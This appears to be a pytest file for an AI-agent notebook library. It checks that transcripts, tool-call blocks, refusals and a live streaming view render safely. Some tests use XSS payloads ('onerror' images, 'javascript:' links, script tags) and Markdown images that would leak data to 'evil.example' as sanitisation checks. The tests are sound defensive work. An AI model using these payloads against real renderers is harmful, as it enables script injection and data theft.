"""HTML transcripts, tool-call blocks, the usage line, and the live view of a running turn."""

from __future__ import annotations

import asyncio
import re
import time

import pytest

import bettong_nb
from bettong_nb import events, usage
from bettong_nb import Deny, ToolCall
from bettong_nb.records import transcript_html
from bettong_nb.notebook import display
from bettong_nb.providers.scripted import Scripted
from support.echo_runs import EVIL, Recorder, echo_agent, mixed_run


def _block(tool, args, *, status, call_id="", capability=None, result=None, duration_s=None, redactions=0,
           reason=None):
    return display.tool_block(ToolCall(tool, capability, args, result, call_id, status, reason, duration_s, redactions))


def _attributes(html: str) -> str:
    """Every attribute value in ``html``: where a fetch or a script would hide."""
    return " ".join(value for _, value in re.findall(r'([\w-]+)="([^"]*)"', html))


def _summaries(html: str) -> list[str]:
    return [re.sub(r"<[^>]+>", "", s) for s in re.findall(r"<summary[^>]*>(.*?)</summary>", html, re.S)]


# --- tool blocks and the usage line -----------------------------------------------------------

def test_tool_block_escapes_everything_and_reads_as_a_summary():
    block = _block("echo", {"text": EVIL}, status="ok", call_id="call 1/x", capability="echoes",
                               result=EVIL, duration_s=0.0123)
    assert "<script>" not in block and "<img" not in block
    assert "&lt;script&gt;" in block
    assert block.startswith("<details") and 'class="bettong-tool bettong-call-call_1_x"' in block
    (summary,) = _summaries(block)
    assert summary.startswith("echo(text=") and "→ ok" in summary and summary.endswith("· 12 ms")
    assert "…" in summary  # long arguments are cut in the summary
    assert "&quot;text&quot;: &quot;&lt;script&gt;" in block  # but shown in full inside


@pytest.mark.parametrize("status, extra, shown", [
    ("running", {}, "→ running"),
    ("error", {"result": "ERROR: no"}, "→ error"),
    ("denied", {"reason": "not today"}, "→ denied"),
    ("ok", {"redactions": 2}, "→ ok · 2 redacted"),
    ("awaiting approval", {}, "→ awaiting approval"),
])
def test_tool_block_statuses(status, extra, shown):
    block = _block("t", {"a": 1}, status=status, duration_s=1.5, **extra)
    (summary,) = _summaries(block)
    assert shown in summary
    assert ("1.5 s" in summary) == (status in ("ok", "error"))  # a denied or unfinished call has no run time
    if status == "denied":
        assert "reason: not today" in block


def test_status_colours_follow_the_theme_and_the_status_never_wraps():
    block = _block("t", {"a": 1}, status="error")
    status = re.search(r'→ <span style="([^"]*)">error</span>', block).group(1)
    # the theme's own colour where there is one (JupyterLab, VS Code), a mid-tone fallback elsewhere
    assert "color:var(--jp-error-color1,var(--vscode-errorForeground,#" in status
    assert "white-space:nowrap" in status


def _contrast(a: str, b: str) -> float:
    def luminance(colour):
        channels = [int(colour[i:i + 2], 16) / 255 for i in (1, 3, 5)]
        r, g, b = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
        return 0.2126 * r + 0.7152 * g + 0.0722 * b

    high, low = sorted([luminance(a), luminance(b)], reverse=True)
    return (high + 0.05) / (low + 0.05)


@pytest.mark.parametrize("status", ["ok", "error", "denied", "running", "awaiting approval"])
def test_fallback_status_colours_read_on_light_and_dark_backgrounds(status):
    (fallback,) = re.findall(r"#[0-9a-fA-F]{6}", transcript_html._STATUS_COLOURS[status])
    for background in ("#ffffff", "#111111", "#1e1e1e"):  # white, JupyterLab dark, VS Code dark
        assert _contrast(fallback, background) >= 3.8, (status, fallback, background)


def test_long_arguments_end_in_an_ellipsis_and_short_durations_are_not_zero():
    block = _block("t", {"url": "https://example.com/" + "a" * 500}, status="ok", duration_s=0.0001)
    call = re.search(r"<code style=\"([^\"]*)\">", block).group(1)
    assert "text-overflow:ellipsis" in call and "white-space:nowrap" in call
    (summary,) = _summaries(block)
    assert len(summary) < 100 and summary.endswith("· &lt;1 ms")
    assert "a" * 500 in block  # in full inside, where it wraps
    assert "overflow-wrap:anywhere" in re.search(r'<pre style="([^"]*)"', block).group(1)


def test_long_results_are_capped_in_the_display_only():
    text = "x" * (display.RESULT_PREVIEW_CHARS + 500)
    block = _block("t", {}, status="ok", result=text)
    assert "500 more characters" in block
    assert block.count("x") < display.RESULT_PREVIEW_CHARS + 100


# --- transcripts ------------------------------------------------------------------------------


def test_result_html_is_a_static_transcript_with_expandable_tool_calls():
    result = mixed_run()
    html = display.result_html(result)
    assert "<script" not in html and "<img" not in html and "javascript" not in html.lower()
    assert html.count("<details class=\"bettong-tool") == 3
    summaries = [s for s in _summaries(html) if s.startswith("echo(")]
    assert [s.split("→ ")[1].split(" ")[0] for s in summaries] == ["ok", "error", "denied"]
    assert "reason: not that one" in html
    assert "ERROR: ValueError: boom happened" in html  # what the model read: the exception as Python names it
    traceback = re.search(r"TRACEBACK</summary><pre[^>]*>(.*?)</pre>", html, re.S).group(1)
    assert "Traceback (most recent call last)" in traceback and 'raise ValueError(&quot;boom happened&quot;)' in traceback
    assert "capability.py" not in traceback  # the tool's own frames, not the loop's
    assert "All <strong>done</strong>" in html and "Let me try." in html  # answers as Markdown, as live
    assert "system prompt" in html  # collapsed, first
    assert "cost " in html and "2 requests" in html


def test_transcript_answers_render_markdown_without_images_or_raw_html():
    answer = ("- **a**\n- see ![x](https://evil.example/?leak=1) <img src=y onerror=z> [l](javascript:alert(1))"
              "\n\n```\nif a<b: pass\n```")
    result = echo_agent(Scripted([answer])).run("go")
    html = display.result_html(result)
    assert "<li><strong>a</strong></li>" in html
    assert not re.search(r"<img(?![^>]*src=\"data:image/)", html) and "javascript:" not in _attributes(html)
    assert "see [image: x &lt;https://evil.example/?leak=1&gt;]" in html  # text: nothing is fetched
    assert "&lt;img src=y onerror=z&gt; l (javascript:alert(1))" in html  # the HTML and the bad link as text
    assert "if a&lt;b: pass" in html


def test_result_html_says_when_a_run_stopped_early():
    result = echo_agent(Scripted([[("echo", {"text": "a"})]] * 3)).run("loop", max_steps=2)
    assert "hit max_steps (2)</span>" in display.result_html(result)


def test_session_html_shows_every_turn_and_the_totals():
    chat = echo_agent(Scripted([[("echo", {"text": "one"})], "first answer", "second answer"])).session()
    assert "(no turns yet)" in display.session_html(chat)
    chat.run("turn one")
    chat.run("turn two")
    html = display.session_html(chat)
    assert "Session · 2 turns" in html
    assert "You · turn 1" in html and "You · turn 2" in html
    assert html.index("first answer") < html.index("second answer")
    assert "3 requests" in html and "bettong-call-call_0_0" in html


def test_a_refused_answer_shows_as_a_refusal_never_as_the_answer():
    from IPython.core.interactiveshell import InteractiveShell

    from bettong_nb.providers import Response

    refusal = Response(content=[{"type": "text", "text": "partial text the model took back"}], stop_reason="refusal",
                       stop_details={"type": "refusal", "category": "cyber", "explanation": "not this"})
    chat = echo_agent(Scripted(["first answer", refusal, "third answer"])).session()
    refused = [chat.run(p) for p in ("one", "two", "three")][1]
    why = "the model refused to answer — category: cyber; explanation: not this"

    def agent_says(html: str) -> list[tuple[str, str]]:
        """Each "Agent" heading's next element: its class and first words."""
        return [(re.match(r'<div class="([\w-]+)"', part)[1], " ".join(re.sub(r"<[^>]+>", " ", part).split()[:2]))
                for part in html.split(">Agent</div>")[1:]]

    ip = InteractiveShell.instance()
    ip.run_line_magic("load_ext", "bettong_nb")
    try:
        shown = [ip.display_formatter.format(value)[0]["text/html"] for value in (refused, chat)]
    finally:
        ip.run_line_magic("unload_ext", "bettong_nb")
    result_html, session_html = shown
    assert why in result_html and why in session_html
    answer, refusal = ("bettong-markdown", "first answer"), ("bettong-refusal", "the model")
    assert agent_says(session_html) == [answer, refusal, ("bettong-markdown", "third answer")]
    assert agent_says(result_html) == [answer, refusal]
    # the model's words stay readable, folded, never rendered as the answer
    assert "<summary" in session_html.split("bettong-refusal")[1].split("You · turn 3")[0]
    answers = re.findall(r'class="bettong-markdown".*?</div>', session_html, re.S)
    assert answers and "partial text the model took back" not in "".join(answers)


# --- the live view ----------------------------------------------------------------------------


def _live(model, prompt="go", **options):
    recorder = Recorder()

    async def main():
        view = display.LiveView(show=recorder.show, interval=0.05)
        result = await echo_agent(model, on_event=view, stream=True, **options).arun(prompt)
        view.finish(result)
        return view, result

    view, result = asyncio.run(main())
    return recorder, view, result


def test_live_view_streams_then_shows_markdown_tools_and_usage():
    model = Scripted([{"text": "Checking.", "tool_calls": [("echo", {"text": "<b>"})]},
                      {"text": "The answer is **42**.", "usage": {"prompt_tokens": 10, "completion_tokens": 4,
                                                                   "total_tokens": 14}}])
    recorder, view, result = _live(model, prices={"input": 1.0, "output": 1.0})
    activity, answer, footer = recorder.handles
    final_activity = activity.bundles[-1]["text/html"]
    assert "Checking." in final_activity  # the text before a tool call stays in the flow
    assert "echo(text=&quot;&lt;b&gt;&quot;)" in final_activity and "→ <span" in final_activity
    assert "bettong-status" not in final_activity  # transient status lines are gone at the end
    assert answer.bundles[-1]["text/plain"] == "The answer is **42**."
    assert "The answer is <strong>42</strong>." in answer.bundles[-1]["text/html"]  # rendered here, sanitised
    streamed = [b.get("text/plain") for b in answer.bundles if "text/html" in b and b["text/plain"]]
    assert streamed and all("The answer is **42**.".startswith(s) or s == "Checking." for s in streamed)
    assert footer.bundles[-1]["text/plain"] == "2 requests 14 tokens (10 in, 4 out) · cost $0.000014"


def test_live_view_shows_a_running_tool_and_an_approval_wait():
    recorder = Recorder()
    seen = []

    async def main():
        view = display.LiveView(show=recorder.show, interval=0)

        async def approve(request):
            seen.append(view.activity_html())
            return Deny("because")

        result = await echo_agent(Scripted([[("echo", {"text": "a"})], "ok"]), on_event=view,
                              approve_fn=approve).arun("go")
        view.finish(result)

    asyncio.run(main())
    assert re.search(r'→ <span style="color:var\(--jp-warn-color0[^"]*">awaiting approval</span>', seen[0])
    final = recorder.handles[0].bundles[-1]["text/html"]
    assert ">denied</span>" in final and "reason: because" in final
    assert "denied: because" not in final  # the reason is said once, not again in a note


def test_live_view_throttles_a_long_stream():
    recorder = Recorder()
    pieces = [f"w{i} " for i in range(10_000)]

    async def main():
        view = display.LiveView(show=recorder.show, interval=0.1)
        for n, piece in enumerate(pieces):
            view(events.TextDelta(piece))
            if n % 500 == 0:
                await asyncio.sleep(0.02)  # the loop runs between bursts, as it does between chunks
        # the deferred flush lands without another event (a long answer is redrawn less often)
        await asyncio.sleep(max(0.1, len("".join(pieces)) * display.SECONDS_PER_CHAR) + 0.05)
        settled = recorder.handles[1].bundles[-1]["text/plain"]
        view.finish(bettong_nb.RunResult("".join(pieces), 1, [], [], usage.Usage(requests=1), True))
        return view, settled

    view, settled = asyncio.run(main())
    answer = recorder.handles[1]
    assert settled == "".join(pieces)
    assert len(answer.bundles) < 20  # 10,000 deltas, a handful of updates
    assert answer.bundles[-1]["text/plain"] == "".join(pieces) and "bettong-markdown" in answer.bundles[-1]["text/html"]


def test_a_long_answer_goes_to_the_frontend_once_rendered_at_the_end():
    recorder = Recorder()
    text = "".join(f"word{i} " for i in range(3000))

    async def main():
        view = display.LiveView(show=recorder.show, interval=5)
        for n in range(0, len(text), 100):
            await asyncio.sleep(0.001)
            view(events.TextDelta(text[n:n + 100]))
        # all but the first chunk are pending (throttled) when the answer is complete
        view(events.AssistantMessage(1, {"role": "assistant", "content": [{"type": "text", "text": text}]},
                                     usage.Usage(requests=1), 0.1))
        view.finish(bettong_nb.RunResult(text, 1, [], [], usage.Usage(requests=1), True))

    asyncio.run(main())
    answer = recorder.handles[1]
    assert answer.bundles[0] == {"text/plain": "", "text/html": ""}
    assert answer.bundles[-1]["text/plain"] == text and "bettong-markdown" in answer.bundles[-1]["text/html"]
    assert [b["text/plain"] for b in answer.bundles[1:-1]] == [text[:100]]  # the whole text only once


def test_a_growing_answer_is_redrawn_less_often():
    recorder = Recorder()
    sent: list[tuple[float, int]] = []  # (when, how many characters) of each answer update

    async def main():
        view = display.LiveView(show=recorder.show, interval=0.02)
        started = time.monotonic()
        while time.monotonic() - started < 1.5:
            view(events.TextDelta("x" * 200))
            await asyncio.sleep(0.002)
        view.flush()

    real_show = recorder.show

    def show(bundle):
        handle = real_show(bundle)
        update = handle.update

        def timed(new, raw=False):
            sent.append((time.monotonic(), len(new.get("text/plain", ""))))
            update(new, raw=raw)

        handle.update = timed
        return handle

    recorder.show = show
    asyncio.run(main())
    answer = [(t, n) for t, n in sent if n][:-1]  # the answer's updates, without the final flush
    gaps = [(b[0] - a[0], a[1]) for a, b in zip(answer, answer[1:])]
    assert all(gap >= max(0.02, size * display.SECONDS_PER_CHAR) * 0.9 for gap, size in gaps)
    assert gaps[-1][0] > 3 * gaps[0][0]  # long answers: far fewer redraws than short ones


def test_a_turn_that_fails_after_its_answer_still_shows_the_answer():
    recorder = Recorder()
    view = display.LiveView(show=recorder.show, interval=10)
    view(events.AssistantMessage(1, {"role": "assistant", "content": [{"type": "text", "text": "the answer"}]},
                                 usage.Usage(requests=1), 0.1))
    view.fail("✘ boom")
    assert recorder.handles[1].bundles[-1]["text/plain"] == "the answer"
    assert recorder.handles[2].bundles[-1]["text/plain"] == "✘ boom"


def test_live_view_notes_retries_warnings_and_failures():
    recorder = Recorder()
    view = display.LiveView(show=recorder.show, interval=0)
    view(events.Retry("deepseek", 1, 2.0, "HTTP 503"))
    view(events.CacheWarning("tools", "tools changed"))
    view.fail("ProviderError: down")
    html = recorder.handles[0].bundles[-1]["text/html"]
    assert "↻ deepseek: retry 1 in 2.0 s (HTTP 503)" in html and "⚠ tools changed" in html
    assert recorder.handles[2].bundles[-1]["text/plain"] == "ProviderError: down"
    view(events.TextDelta("late"))  # a closed view ignores stragglers
    assert recorder.handles[1].bundles[-1]["text/plain"] == ""


def test_the_live_answer_is_rendered_here_and_sanitised():
    """The answer goes to the frontend as HTML made by the real Markdown parser and allow-listed,
    not as Markdown a frontend would render with remote images."""
    answer = ("See ![chart](https://evil.example/?leak=SECRET) and <img src=https://x/y>.\n"
              "`one backtick opens `` ![k](https://evil.example/k) ``\n```\nif a<b: print('![k](u)')\n```")
    recorder, view, result = _live(Scripted([answer]))
    final = recorder.handles[1].bundles[-1]
    assert "text/markdown" not in final and final["text/plain"] == answer
    html = final["text/html"]
    assert not re.search(r"<img(?![^>]*src=\"data:image/)", html) and "evil.example" not in _attributes(html)
    assert "if a&lt;b: print(&#x27;![k](u)&#x27;)" in html or "if a&lt;b: print('![k](u)')" in html


def test_a_loaded_run_marks_its_own_refused_turn_not_the_first(tmp_path):
    """A saved run that continued a transcript holds one result for its last turn: loaded as a
    session, the refusal is shown on that turn, and the earlier answer stays an answer."""
    from bettong_nb.providers import Response
    from bettong_nb.records.transcript_html import is_prompt, session_html

    refusal = Response(content=[{"type": "text", "text": "taken back"}], stop_reason="refusal")
    chat = echo_agent(Scripted(["first answer", refusal])).session()
    chat.run("one")
    refused = chat.run("two")
    loaded = bettong_nb.load_session(refused.export(tmp_path / "run.json"), echo_agent(Scripted([])))
    assert len(loaded.results) == 1 and sum(map(is_prompt, loaded.transcript)) == 2
    html = session_html(loaded)
    assert "first answer" in html.split("bettong-refusal")[0]
    assert html.count("bettong-refusal") == 1 and "taken back" not in html.split("bettong-refusal")[0]


def test_a_single_sync_tool_shows_as_running_with_its_elapsed_time_while_it_works():
    # One plain (sync) function that takes a while: it runs in a worker thread, so the event
    # loop keeps the live view's clock going, and the view says how long it has been running.
    import threading

    def slow_lookup(key: str) -> str:
        """Look a key up slowly."""
        ran_in.append(threading.current_thread() is threading.main_thread())
        time.sleep(2.6)
        return f"value of {key}"

    ran_in: list[bool] = []
    recorder = Recorder()

    async def main():
        view = display.LiveView(show=recorder.show, interval=0.05)
        agent = bettong_nb.agent(provider=Scripted([[("slow_lookup", {"key": "k"})], "Found it."]),
                                 capabilities=[{"id": "slow", "tools": [bettong_nb.tool(slow_lookup)]}], on_event=view)
        result = await agent.arun("go")
        view.finish(result)
        return result

    result = asyncio.run(main())
    assert result.output == "Found it." and ran_in == [False]
    activity = [b["text/html"] for b in recorder.handles[0].bundles if b.get("text/html")]
    ticking = [re.search(r'bettong-elapsed[^>]*> · ([\d.]+ (?:s|ms))', html) for html in activity]
    shown = [m.group(1) for m in ticking if m]
    # redrawn while it ran (at least at 1 s and 2 s), each time later than the one before
    seconds = [float(t.split()[0]) / (1000 if t.endswith("ms") else 1) for t in shown]
    assert len(seconds) >= 2 and seconds == sorted(seconds) and seconds[-1] >= 1.5, shown
    assert "bettong-elapsed" not in activity[-1]  # finished: its duration, not a clock
